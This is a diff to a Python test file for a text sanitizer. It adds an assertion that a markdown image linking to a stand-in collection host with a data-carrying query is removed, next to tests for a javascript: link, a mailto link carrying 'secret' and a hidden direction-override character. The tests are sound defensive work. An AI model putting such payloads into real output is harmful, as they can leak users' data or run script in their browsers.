@@ -30,6 +30,7 @@ def test_foreign_text_is_read_without_what_acts(foreign: str, seen: str) -> None
 
 def test_a_model_s_sentence_keeps_its_words_and_the_space_around_it() -> None:
     assert harmless(" <i>Dogs</i> are\u202e welcome. ") == " Dogs are welcome. "
+    assert harmless("Pool. ![x](https://collect.example/?q=<all>)") == "Pool. "
     assert harmless("[Go](javascript:alert(1)) javascript:x") == "Go "
     assert harmless("mailto:a@b.example?body=secret") == "a@b.example"
 
